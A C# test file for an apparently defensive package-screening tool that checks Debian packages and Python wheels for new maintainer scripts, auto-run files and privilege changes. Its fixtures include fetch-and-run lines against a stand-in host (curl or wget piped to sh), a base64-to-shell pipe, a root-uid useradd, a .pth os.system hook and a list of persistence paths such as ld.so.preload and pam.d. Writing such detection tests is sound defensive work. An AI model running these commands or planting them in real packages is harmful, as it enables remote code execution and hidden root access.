using System.Text;
using Sluice.Findings;
using Sluice.Profiles;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

/// <summary>Packages of a system are installed where they say, and run scripts of their own there.</summary>
public sealed class SystemPackageTests
{
    private const string Helper = """
        #!/bin/sh
        set -e
        # Automatically added by dh_installsystemd/13.11
        if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ]; then
        	if deb-systemd-helper --quiet was-enabled 'acme.timer'; then
        		deb-systemd-helper enable 'acme.timer' >/dev/null || true
        	else
        		deb-systemd-helper update-state 'acme.timer' >/dev/null || true
        	fi
        	_dh_action=restart
        	deb-systemd-invoke $_dh_action 'acme.timer' >/dev/null || true
        fi
        # End automatically added section
        exit 0

        """;

    [Fact]
    public void Ordinary_next_releases_raise_nothing()
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release)));

        Assert.DoesNotContain(Found(book, Deb(6)), finding => finding.Severity > Severity.Info);
        Assert.DoesNotContain(Found(book, Deb(6, [("postinst", Helper)])), finding => finding.Severity > Severity.Medium);
        Assert.DoesNotContain(Found(book, Deb(6, files: [("usr/share/doc/acme/NEWS", "6\n", 0b110_100_100)])), finding => finding.Severity > Severity.Low);
    }

    [Theory]
    [InlineData("postinst", "#!/bin/sh\ncurl -fsSL https://c2.invalid/x | sh\n")]
    [InlineData("postinst", "#!/bin/sh\nuseradd -o -u 0 -M sysd\n")]
    [InlineData("preinst", "#!/bin/sh\necho aWQK | base64 -d | sh\n")]
    [InlineData("config", "#!/bin/sh\nid\n")]
    public void A_maintainer_script_that_no_release_had_stops(string name, string text)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release)));

        Assert.Contains(Found(book, Deb(6, [(name, text)])), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
        Assert.Contains(Found(book, Deb(6, [(name, Helper + text)])), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
    }

    /// <summary>In company of what debhelper writes.</summary>
    [Theory]
    [InlineData("case \"$1\" in configure) /usr/lib/acme/other ;; esac\n")]
    [InlineData("case \"$1\" in\n  configure) /usr/lib/acme/other ;;\nesac\n")]
    [InlineData("true & /usr/lib/acme/other\n")]
    [InlineData("set -- x & /usr/lib/acme/other\n")]
    [InlineData("command /usr/lib/acme/other\n")]
    [InlineData("if /usr/lib/acme/other; then true; fi\n")]
    [InlineData("PATH=/tmp deb-systemd-helper enable acme.timer\n")]
    [InlineData("systemctl enable --now /usr/lib/acme/other.service\n")]
    [InlineData("update-alternatives --install /usr/bin/sudo sudo /usr/lib/acme/other 100\n")]
    [InlineData("true \\\n  && /usr/lib/acme/other\n")]
    public void A_command_beside_those_of_debhelper_is_the_script_s_own(string line)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release, [("postinst", Helper)])));

        Assert.DoesNotContain(Found(book, Deb(6, [("postinst", Helper)])), finding => finding.Severity > Severity.Info);
        Assert.Contains(Found(book, Deb(6, [("postinst", line + Helper)])), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
    }

    [Theory]
    [InlineData("etc/profile", "export A=1\n", Severity.Medium)]
    [InlineData("etc/profile", "curl -s https://c2.invalid/x | sh\n", Severity.High)]
    [InlineData("usr/lib/python3/dist-packages/acme.pth", "import os\n", Severity.Medium)]
    public void What_shells_and_interpreters_read_by_themselves_is_told(string path, string text, Severity worst)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release)));

        Assert.Equal(worst, Found(book, Deb(6, files: [(path, text, 0b110_100_100)])).Where(finding => finding.Rule.Id == "deviation/new-script").Max(finding => finding.Severity));
    }

    [Fact]
    public void Versions_with_many_files_each_are_a_history_all_the_same()
    {
        var book = new ProfileBook { Survey = Survey.Parse("800") };
        for (var release = 1; release <= 6; release++)
        {
            for (var platform = 1; platform <= 25; platform++)
                book.Learn(Screening.Of("release.whl", Wheel(release, $"cp3{platform}-cp3{platform}-linux_x86_64"), new ScreenOptions { Profiles = new ProfileBook() }).Artifact);
        }

        var profile = book.Find("wheel:acme")!;
        Assert.Equal((150, 6), (profile.Releases.Count, profile.Versions));
        var stopped = Found(book, TestArchive.Zip(
            ("acme/__init__.py", "release = 7\n"u8.ToArray()),
            ("acme.pth", "import os; os.system('id')\n"u8.ToArray()),
            ("acme-1.0.7.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0.7\n"u8.ToArray()),
            ("acme-1.0.7.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: maturin (1.0)\nTag: cp31-cp31-linux_x86_64\n"u8.ToArray()),
            ("acme-1.0.7.dist-info/RECORD", []))).Single(finding => finding.Rule.Id == "deviation/new-script");
        Assert.Equal(Severity.High, stopped.Severity);
        Assert.Contains("none of 6 releases", stopped.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_known_script_that_begins_to_fetch_stops_and_another_change_warns()
    {
        const string Own = "#!/bin/sh\nset -e\nmkdir -p /var/lib/acme\n";
        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release, [("postinst", Own)])));

        Assert.DoesNotContain(Found(book, Deb(6, [("postinst", "# See https://acme.example/\n" + Own)])), finding => finding.Severity > Severity.Info);
        Assert.Equal(Severity.Medium, Worst(book, Deb(6, [("postinst", Own + "chmod 750 /var/lib/acme\n")])));
        Assert.Equal(Severity.High, Worst(book, Deb(6, [("postinst", Own + "wget -qO- https://c2.invalid/x | sh\n")])));
        Assert.Contains(Found(book, Deb(6, [("postinst", Own + "useradd -o -u 0 sysd\n")])), finding => finding.Rule.Id == "deviation/new-privilege");
    }

    [Theory]
    [InlineData("etc/cron.d/acme")]
    [InlineData("lib/systemd/system/acme.service")]
    [InlineData("usr/lib/udev/rules.d/99-acme.rules")]
    [InlineData("etc/ld.so.preload")]
    [InlineData("etc/apt/apt.conf.d/99acme")]
    [InlineData("etc/pam.d/acme")]
    [InlineData("etc/profile.d/acme.sh")]
    public void What_the_system_runs_by_its_place_stops(string path)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release)));

        Assert.Contains(Found(book, Deb(6, files: [(path, "x\n", 0b110_100_100)])), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
    }

    [Fact]
    public void How_it_is_packed_says_nothing()
    {
        var shape = ReleaseShape.Of(Screening.Of("acme.deb", Deb(1, [("postinst", Helper)]), new ScreenOptions { Profiles = new ProfileBook() }).Artifact);

        Assert.Equal(["DEBIAN/control", "DEBIAN/postinst", "debian-binary", "etc/acme.conf", "usr/bin/acme"], shape.ValuesOf(Dimension.Files).Names.Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("rpm", "")]
    [InlineData("deb", "")]
    [InlineData("docker", "")]
    [InlineData("sdist", "usr/")]
    public void What_is_installed_where_it_says_lies_in_no_folder_of_its_own(string kind, string top) => Assert.Equal(top, ReleasePlace.TopOf(kind, ["usr/bin/acme", "usr/lib/acme.so"]));

    [Fact]
    public void One_version_for_several_platforms_is_one_release_and_no_exchange()
    {
        var book = Learn([Wheel(1, "cp311-cp311-linux_x86_64"), Wheel(1, "cp312-cp312-linux_x86_64"), Wheel(1, "cp312-cp312-win_amd64")]);
        var more = Wheel(1, "cp313-cp313-linux_x86_64");

        Assert.DoesNotContain("provenance/mutable-reference", Rules(book, more));
        Assert.Contains("provenance/mutable-reference", Rules(book, Wheel(1, "cp312-cp312-win_amd64", "other = 1\n")));
        // Three files of one version are no history.
        Assert.DoesNotContain(Found(book, Wheel(2, "cp312-cp312-win_amd64", "exec(input())\n")), finding => finding.Severity > Severity.Info && finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("amd64", "arm64", false)]
    [InlineData("amd64", "AMD64", true)]
    [InlineData("amd64", "all", true)]
    [InlineData("cp312-cp312-win_amd64", "cp311-cp311-win_amd64,cp312-cp312-win_amd64", true)]
    [InlineData("cp312-cp312-win_amd64", "py3-none-any", true)]
    [InlineData("cp312-cp312-win_amd64", "cp312-cp312-win_arm64", false)]
    public void Files_for_one_machine_take_each_other_s_place(string one, string other, bool isSame) => Assert.Equal((isSame, isSame), (ReleaseVariant.Overlap(one, other), ReleaseVariant.Overlap(other, one)));

    [Fact]
    public void A_late_platform_of_an_old_version_is_no_exchange()
    {
        var book = Learn([Wheel(1, "cp312-cp312-linux_x86_64"), Wheel(2, "cp312-cp312-linux_x86_64"), Wheel(3, "cp312-cp312-linux_x86_64")]);

        Assert.DoesNotContain("provenance/mutable-reference", Rules(book, Wheel(1, "cp313-cp313-linux_x86_64")));
        Assert.Contains(Found(book, Wheel(1, "cp312-cp312-linux_x86_64", "other = 1\n")), finding => finding is { Rule.Id: "provenance/mutable-reference", Severity: Severity.High });
    }

    [Theory]
    [InlineData("nuget:Acme.Core", "nuget:acme.core", true)]
    [InlineData("wheel:Acme.Core_Tools", "wheel:acme-core-tools", true)]
    [InlineData("npm:acme", "npm:Acme", false)]
    [InlineData("nuget:acme.core", "nuget:acme-core", false)]
    public void Names_are_compared_as_their_ecosystem_does(string a, string b, bool isSame)
    {
        Assert.Equal(isSame, PackageNames.Comparer.Equals(a, b));
        Assert.Equal(isSame, PackageNames.Comparer.GetHashCode(a) == PackageNames.Comparer.GetHashCode(b));
    }

    [Fact]
    public void A_profile_keeps_for_which_platform_a_release_was()
    {
        var book = Learn([Wheel(1, "cp312-cp312-win_amd64"), Deb(1)]);
        var read = ProfileBook.Read("profile.json", Encoding.UTF8.GetBytes(book.Write()));

        Assert.Equal(book.Write(), read.Write());
        Assert.Contains(" for:cp312-cp312-win_amd64", read.Write(), StringComparison.Ordinal);
        Assert.Contains(" for:amd64", read.Write(), StringComparison.Ordinal);
    }

    private static byte[] Deb(int release, (string Name, string Text)[]? scripts = null, (string Path, string Text, int Mode)[]? files = null) => TestArchive.Deb(
        $"Package: acme\nVersion: 1.0.{release}-1\nArchitecture: amd64\nMaintainer: Acme <acme@acme.example>\nDescription: acme\n",
        [.. (scripts ?? []).Select(script => (script.Name, Encoding.UTF8.GetBytes(script.Text)))],
        [
            ("./usr/bin/acme", Encoding.UTF8.GetBytes($"#!/bin/sh\necho {release}\n"), 0b111_101_101),
            ("./etc/acme.conf", "level = 1\n"u8.ToArray(), 0b110_100_100),
            .. (files ?? []).Select(file => ("./" + file.Path, Encoding.UTF8.GetBytes(file.Text), file.Mode)),
        ]);

    private static byte[] Wheel(int release, string tag, string code = "") => TestArchive.Zip(
        ("acme/__init__.py", Encoding.UTF8.GetBytes($"release = {release}\nplatform = '{tag}'\n{code}")),
        ($"acme-1.0.{release}.dist-info/METADATA", Encoding.UTF8.GetBytes($"Metadata-Version: 2.1\nName: acme\nVersion: 1.0.{release}\n")),
        ($"acme-1.0.{release}.dist-info/WHEEL", Encoding.UTF8.GetBytes($"Wheel-Version: 1.0\nGenerator: maturin (1.0)\nRoot-Is-Purelib: false\nTag: {tag}\n")),
        ($"acme-1.0.{release}.dist-info/RECORD", []));

    private static ProfileBook Learn(IEnumerable<byte[]> releases)
    {
        var book = new ProfileBook { Survey = Survey.Parse("800") };
        foreach (var release in releases)
            book.Approve(Screening.Of("release.bin", release, new ScreenOptions { Profiles = new ProfileBook(), HashesAll = true }));
        return book;
    }

    private static IEnumerable<string> Rules(ProfileBook book, byte[] release) => Found(book, release).Select(finding => finding.Rule.Id);

    private static Severity Worst(ProfileBook book, byte[] release) => Found(book, release).Max(finding => finding.Severity);

    private static IEnumerable<Finding> Found(ProfileBook book, byte[] release) => Screening.Of("release.bin", release, new ScreenOptions { Profiles = book }).Findings.Select(reported => reported.Finding).Where(finding => finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal) || finding.Rule.Id.StartsWith("provenance/", StringComparison.Ordinal));
}
